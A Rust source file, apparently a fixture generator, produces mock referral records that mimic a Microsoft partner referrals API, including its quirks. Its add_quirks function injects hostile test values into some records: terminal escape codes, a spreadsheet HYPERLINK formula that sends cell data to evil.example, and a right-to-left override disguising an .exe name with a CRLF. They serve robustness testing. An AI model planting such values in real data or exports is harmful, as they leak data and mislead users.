//! Generates referrals in the shape of the API, quirks included (API §3).

use jiff::{SignedDuration, Timestamp};
use serde_json::{Map, Value, json};

use crate::fixtures::{
    ASSISTANCE_REQUESTS, COLLEAGUES, COMPANY_SIZES, CUSTOMERS, Customer, LOST_REASONS,
    OWN_ORGANIZATION, PARTNERS, PROJECTS, Project,
};
use crate::lifecycle::{History, ScenarioKind, Stage, choose_scenario, generate_history};
use crate::prng::SplitMix64;

/// The referrals that the API would return at `now`. The same seed and instant give the same ones,
/// however many are asked for.
pub(crate) fn generate_rows(
    count: usize,
    seed: u64,
    now: Timestamp,
) -> impl Iterator<Item = Value> {
    (0..count).map(move |index| generate_row(index, seed, now))
}

/// A referral before it becomes JSON.
struct Draft {
    index: usize,
    rng: SplitMix64,
    kind: ScenarioKind,
    stage: Stage,
    history: History,
    customer: &'static Customer,
    project: &'static Project,
    /// Fractional digits of the seconds: 0 to 7 (API §3.1).
    fraction_digits: usize,
}

fn generate_row(index: usize, seed: u64, now: Timestamp) -> Value {
    let mut rng = SplitMix64::new(SplitMix64::new(seed).next_u64() ^ ((index as u64) << 20));
    let id = rng.guid();
    let (kind, stage) = choose_scenario(index, &mut rng);
    let history = generate_history(stage, kind, now, &mut rng);
    let is_first = index < CUSTOMERS.len();
    let mut draft = Draft {
        index,
        customer: if is_first { &CUSTOMERS[index] } else { rng.pick(CUSTOMERS) },
        project: if is_first { &PROJECTS[index % PROJECTS.len()] } else { rng.pick(PROJECTS) },
        rng,
        kind,
        stage,
        history,
        fraction_digits: [7, 7, 6, 0, 3, 7, 1, 5, 2, 4][index % 10],
    };
    // Some referrals share an engagement, as the copies of two partners do.
    let engagement_index = if index % 25 == 7 { index - 1 } else { index };
    let engagement = SplitMix64::new(!seed ^ ((engagement_index as u64) << 20)).guid();
    let mut row = draft.make_top_level(&id, &engagement);
    row.insert("customerProfile".to_owned(), draft.make_customer_profile());
    row.insert("consent".to_owned(), draft.make_consent());
    row.insert("details".to_owned(), draft.make_details());
    row.insert("links".to_owned(), make_links(&id, &engagement, index));
    if draft.is_lead() {
        row.insert("callToAction".to_owned(), json!("ContactMe"));
        let source = *draft.rng.pick(&["AppSource", "AzureMarketplace"]);
        row.insert("referralSource".to_owned(), json!(source));
    } else {
        draft.add_deal(&mut row);
    }
    draft.add_team(&mut row);
    add_quirks(index, &mut row);
    Value::Object(row)
}

impl Draft {
    fn is_lead(&self) -> bool {
        matches!(self.kind, ScenarioKind::Lead | ScenarioKind::QualifiedLead)
    }

    fn is_outgoing(&self) -> bool {
        matches!(self.kind, ScenarioKind::Own | ScenarioKind::Private)
    }

    fn format_time(&self, instant: Timestamp) -> Value {
        let fraction_digits = self.fraction_digits;
        json!(format!("{instant:.fraction_digits$}"))
    }

    fn format_time_or_null(&self, instant: Option<Timestamp>) -> Value {
        instant.map_or(Value::Null, |instant| self.format_time(instant))
    }

    fn make_top_level(&mut self, id: &str, engagement: &str) -> Map<String, Value> {
        let (status, substatus) = match self.stage {
            Stage::Pending(_) => ("New", "Pending"),
            Stage::Received(_) => ("New", "Received"),
            Stage::Active | Stage::ActiveWithExpiration => ("Active", "Accepted"),
            Stage::Closed(substatus) => ("Closed", substatus),
        };
        let (kind, qualification) = match self.kind {
            ScenarioKind::Lead => ("Independent", "Direct"),
            ScenarioKind::QualifiedLead if self.index.is_multiple_of(2) => {
                ("Independent", "MarketingQualified")
            }
            ScenarioKind::QualifiedLead | ScenarioKind::Private => {
                ("Independent", "SalesQualified")
            }
            ScenarioKind::CoSell | ScenarioKind::Own => ("Shared", "SalesQualified"),
            ScenarioKind::Partner => ("Shared", "None"),
            ScenarioKind::Other => ("Independent", "MarketingQualified"),
        };
        let mut row = into_object(json!({
            "id": id,
            "engagementId": engagement,
            "organizationId": OWN_ORGANIZATION.0,
            "organizationName": OWN_ORGANIZATION.1,
            "externalReferenceId": "",
            "createdDateTime": self.format_time(self.history.created),
            "updatedDateTime": self.format_time(self.history.updated),
            "status": status,
            "substatus": substatus,
            "qualification": qualification,
            "type": kind,
            "direction": if self.is_outgoing() { "Outgoing" } else { "Incoming" },
            "eTag": format!("\"{:08x}-0000-0700-0000-{:08x}0000\"", self.rng.next_u64() >> 32, self.rng.next_u64() >> 32),
            "favorite": self.rng.chance(15),
            "quality": if self.kind == ScenarioKind::Lead { "High" } else { "Unknown" },
            "isSpam": false,
        }));
        let expiration = self.history.expiration.map(|it| json!(format!("{it:.0}")));
        match expiration {
            Some(expiration) => row.insert("expirationDateTime".to_owned(), expiration),
            // Missing in half of the referrals, null in the other.
            None if self.rng.chance(50) => None,
            None => row.insert("expirationDateTime".to_owned(), Value::Null),
        };
        if !(self.is_lead() && self.rng.chance(50)) {
            let name = format!("{}: {}", self.customer.short_name, self.project.title);
            row.insert("name".to_owned(), json!(name));
        }
        let target = if self.is_lead() {
            json!([{"type": "BusinessProfileLocation", "id": self.rng.guid()}])
        } else {
            let number = 10_000 + self.rng.below(90_000);
            json!([{"type": "SolutionProfile", "id": format!("SOL-{number}-KLM")}])
        };
        row.insert("target".to_owned(), target);
        row
    }

    fn make_customer_profile(&mut self) -> Value {
        let customer = self.customer;
        let (line, city, postal) = customer.address;
        let lead = self.is_lead();
        let address = json!({
            "addressLine1": line, "addressLine2": if lead { json!("") } else { Value::Null },
            "city": city, "state": null, "postalCode": postal, "country": customer.country,
        });
        // Expired leads have no contact (API §3.2).
        let hidden = lead && self.stage == Stage::Closed("Expired");
        let team = if hidden {
            json!([])
        } else {
            json!([{
                "firstName": customer.contact.0, "lastName": customer.contact.1,
                "phoneNumber": customer.phone, "email": customer.email,
                "contactPreference": {"locale": customer.locale, "disableNotifications": false},
            }])
        };
        let ids = if lead {
            json!({})
        } else {
            let duns = 315_000_000 + self.rng.below(999_999);
            json!([{"profileType": "Duns", "id": duns.to_string()}])
        };
        json!({
            "name": customer.name, "size": self.rng.pick(COMPANY_SIZES), "address": address,
            "team": team, "ids": ids,
        })
    }

    /// `ToTo` is how the API spells it (API §3.4).
    fn make_consent(&self) -> Value {
        if self.is_lead() {
            return json!({"consentToContact": true});
        }
        json!({
            "consentToToShareInfoWithOthers": true,
            "consentToContact": true,
            "consentToShareReferralWithMicrosoftSellers": self.kind != ScenarioKind::Private,
        })
    }

    fn make_details(&mut self) -> Value {
        let project = self.project;
        let requirements = json!({
            "industries": [{"id": project.industry}],
            "products": [{"id": project.product}],
            "services": [{"id": project.service}],
        });
        if self.is_lead() {
            return json!({
                "notes": project.customer_notes, "customerRequestedContact": self.rng.chance(60),
                "requirements": requirements,
            });
        }
        let mut details = into_object(json!({
            "notes": project.seller_notes, "currency": self.customer.currency,
            "customerRequestedContact": null, "customerAction": null, "incentiveLevel": null,
            "requirements": requirements,
        }));
        let closing =
            self.history.created + SignedDuration::from_hours(24 * (30 + self.rng.below(150)));
        details.insert("closingDateTime".to_owned(), json!(format!("{closing:.0}")));
        if let Some(value) = self.make_deal_value() {
            details.insert("dealValue".to_owned(), value);
        }
        let solution = json!([{
            "id": format!("SOL-{}-KLM", 10_000 + self.rng.below(90_000)),
            "name": format!("Contoso {}", project.title), "type": "Name",
            "price": null, "quantity": null, "currency": null,
        }]);
        details["requirements"]["solutions"] = solution;
        Value::Object(details)
    }

    /// A number, null, missing (`None`), or the string that a PATCH left there (API §1.2, §3.3).
    fn make_deal_value(&mut self) -> Option<Value> {
        let thousands = *self.rng.pick(&[8, 12, 24, 35, 48, 60, 95, 120, 185, 240, 410, 900]);
        let value = match self.customer.currency {
            "JPY" => thousands * 150_000,
            "SEK" => thousands * 10_000,
            _ => thousands * 1000 + self.rng.below(20) * 50,
        };
        match self.index % 13 {
            3 => None,
            6 => Some(Value::Null),
            8 => Some(json!("10000")),
            11 if self.customer.currency != "JPY" => Some(json!(185_000.5)),
            _ => Some(json!(value)),
        }
    }

    /// Adds what a deal has and a lead has not.
    fn add_deal(&mut self, row: &mut Map<String, Value>) {
        let own = (OWN_ORGANIZATION.0, OWN_ORGANIZATION.1);
        let inviter = match self.kind {
            ScenarioKind::CoSell => Some(("msft", "Microsoft")),
            ScenarioKind::Partner => Some(*self.rng.pick(PARTNERS)),
            ScenarioKind::Own | ScenarioKind::Private => Some(own),
            _ => None,
        };
        let (code, note) = *self.rng.pick(ASSISTANCE_REQUESTS);
        let invite = inviter.map_or(Value::Null, |(id, name)| {
            json!({
                "notes": note, "assistanceRequestCode": code, "invitedMpnId": "4012345",
                "invitedBy": {"organizationId": id, "organizationName": name},
            })
        });
        let sales_stage = match self.stage {
            Stage::Closed("Won") => json!("100"),
            Stage::Active | Stage::ActiveWithExpiration => {
                json!(self.rng.pick(&["10", "20", "40", "Develop", "60", "80"]))
            }
            _ => Value::Null,
        };
        let reason = match self.stage {
            Stage::Closed("Lost" | "Declined") => json!(self.rng.pick(LOST_REASONS)),
            _ => Value::Null,
        };
        let accepted = self.format_time_or_null(self.history.accepted);
        let closed = self.format_time_or_null(self.history.closed);
        row.append(&mut into_object(json!({
            "externalReferenceId": format!("OPP-{}", 20_000 + self.index),
            "statusReason": reason, "referralSource": null, "callToAction": null,
            "campaignId": null, "salesStage": sales_stage, "mpnId": "4012345",
            "referralProgram": null, "dealSensitivity": "None", "createdVia": null, "tags": [],
            "lastModifiedVia": null, "lastRunId": null, "registrationStatus": "None",
            "acceptedDateTime": accepted, "closedDateTime": closed,
            "inviteContext": invite, "registrations": [],
            "trackingInfo": {
                "microsoftMsxId": format!("7-EXAMPLE{:04}", self.rng.below(10_000)),
                "microsoftUSFedOpportunityId": null, "microsoftUSFedLeadId": null,
                "migratedPSCDealId": null, "migratedPSCPartnerDealId": null,
            },
        })));
    }

    /// Unanswered leads have no team yet; qualified ones name their sender.
    fn add_team(&mut self, row: &mut Map<String, Value>) {
        if self.kind == ScenarioKind::QualifiedLead {
            let invite = json!({"invitedBy": {"organizationId": "msft", "organizationName": ""}});
            row.insert("inviteContext".to_owned(), invite);
        }
        if self.is_lead() {
            for (name, instant) in [
                ("acceptedDateTime", self.history.accepted),
                ("closedDateTime", self.history.closed),
            ] {
                if let Some(instant) = instant {
                    row.insert(name.to_owned(), self.format_time(instant));
                }
            }
            if matches!(self.stage, Stage::Pending(_)) {
                return;
            }
        }
        let first = self.rng.next_u64();
        let count = 1 + self.rng.below(2).unsigned_abs();
        let members = (first..).take(usize::try_from(count).expect("one or two")).map(|number| {
            let index = usize::try_from(number % COLLEAGUES.len() as u64).expect("a small number");
            let (first, last, email, phone, locale) = COLLEAGUES[index];
            json!({
                "firstName": first, "lastName": last, "phoneNumber": phone, "email": email,
                "title": null,
                "contactPreference": {"locale": locale, "disableNotifications": null},
            })
        });
        row.insert("team".to_owned(), members.collect());
    }
}

/// The documentation quotes the engagement id in the link, a captured response does not (API §3.8).
fn make_links(id: &str, engagement: &str, index: usize) -> Value {
    let base = "https://api.partner.microsoft.com/v1.0/engagements/referrals";
    let quote = if index.is_multiple_of(2) { "'" } else { "" };
    json!({
        "relatedReferrals": {
            "uri": format!("{base}?$filter=engagementId eq {quote}{engagement}{quote}"),
            "method": "GET",
        },
        "self": {"uri": format!("{base}/{id}"), "method": "GET"},
    })
}

/// Replaces values with unknown, missing and hostile ones. The first referrals have none, so that a demo
/// looks tidy.
fn add_quirks(index: usize, row: &mut Map<String, Value>) {
    let mut set = |name: &str, value: Value| {
        row.insert(name.to_owned(), value);
    };
    match index % 500 {
        31 => {
            set("marketplacePurchaseIntent", json!("Have not decided"));
            set("insights", json!({"score": 0.75, "labels": ["new", null]}));
        }
        33 => set("substatus", json!("Engaged")),
        35 => set("type", json!("Exclusive")),
        37 => {
            let (first, last, email, ..) = COLLEAGUES[0];
            let member = json!({"firstName": first, "lastName": last, "email": email});
            set("team", member);
        }
        39 => set("name", Value::Null),
        41 => set("name", json!("Renewal \u{1b}[31mURGENT\u{1b}[0m\u{7} now")),
        43 => {
            let formula = r#"=HYPERLINK("https://evil.example/?x="&A1,"Open")"#;
            set("name", json!(formula));
        }
        45 => set("name", json!("Invoice \u{202e}fdp.exe\u{202c} review\r\nsecond line")),
        47 => set("inviteContext", Value::Null),
        49 => set("name", json!("")),
        _ => {}
    }
}

fn into_object(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(object) => object,
        _ => Map::new(),
    }
}
